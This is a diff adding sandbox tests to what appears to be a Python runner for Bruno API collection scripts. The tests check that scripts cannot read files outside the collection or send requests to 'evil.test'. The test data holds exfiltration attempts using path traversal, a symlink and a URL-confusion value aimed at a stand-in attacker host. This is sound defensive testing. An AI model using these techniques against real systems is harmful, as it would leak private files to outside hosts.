@@ -10,6 +10,8 @@ from typing import Any
 
 import pytest
 
+from bruscript import load
+
 POST, TESTS = "script:post-response", "tests"
 
 
@@ -58,3 +60,45 @@ def test_an_answer_nested_beyond_pythons_depth_is_cut_in_reports(make: Any, tmp_
     assert (done.returncode, done.stderr) == (0, "")
     assert all(name.stat().st_size > 0 for name in names.values())
     assert "[…]" in json.dumps(json.loads(names["json"].read_text()), ensure_ascii=False)
+
+
+MULTIPART = (
+    "post {\n  url: http://app.test/\n  body: multipartForm\n}\n\n"
+    "body:multipart-form {\n  f: @file(%s)\n}\n\n"
+)
+
+
+@pytest.mark.parametrize("mode", ["safe", "developer"])
+def test_a_script_has_no_file_from_outside_sent(make: Any, echo: Any, tmp_path: Path, mode: str) -> None:
+    (tmp_path / "outside.txt").write_text("the secret")
+    part = "{ name: 'f', type: 'file', value: ['%s'] }"
+    paths = (str(tmp_path / "outside.txt"), "../outside.txt", "link.txt", "inside.txt")
+    sources = [part % path for path in paths]
+    files = {
+        f"{name}.bru": MULTIPART % "inside.txt" + script("script:pre-request", f"req.setBody([{source}])")
+        for name, source in zip("abcd", sources, strict=True)
+    }
+    # What the collection's author names is sent wherever it is.
+    files["e.bru"] = MULTIPART % "../outside.txt" + script("script:pre-request", "req.setHeader('a', 'b')")
+    root = tmp_path / "collection"
+    for name, text in files.items():
+        make({f"collection/{name}": text})
+    (root / "bruno.json").write_text((tmp_path / "bruno.json").read_text())
+    (tmp_path / "bruno.json").unlink()
+    (root / "inside.txt").write_text("known to all")
+    (root / "link.txt").symlink_to(tmp_path / "outside.txt")
+    result = load(root).run(app=echo, sandbox=mode)
+    assert [item.status for item in result.results] == ["error", "error", "error", "pass", "pass"]
+    assert all("--allow-read" in str(item.error) for item in result.results[:3])
+    assert [("the secret" in seen["body"]) for seen in echo.requests] == [False, True]
+
+
+@pytest.mark.parametrize("url", ["http://evil.test/", "http://evil.test\\\\@app.test/", "{{host}}/"])
+def test_a_script_sends_its_request_to_no_host_out_of_reach(make: Any, echo: Any, url: str) -> None:
+    files = {
+        "a.bru": script("script:pre-request", f"bru.setVar('host', 'http://evil.test'); req.setUrl('{url}')"),
+        "b.bru": "get {\n  url: http://evil.test/own\n}\n",
+    }
+    result = make(files).run(app=echo, allow_net=["app.test"])
+    assert "--allow-net evil.test" in str(result.results[0].error)
+    assert [seen["path"] for seen in echo.requests] == ["/own"]
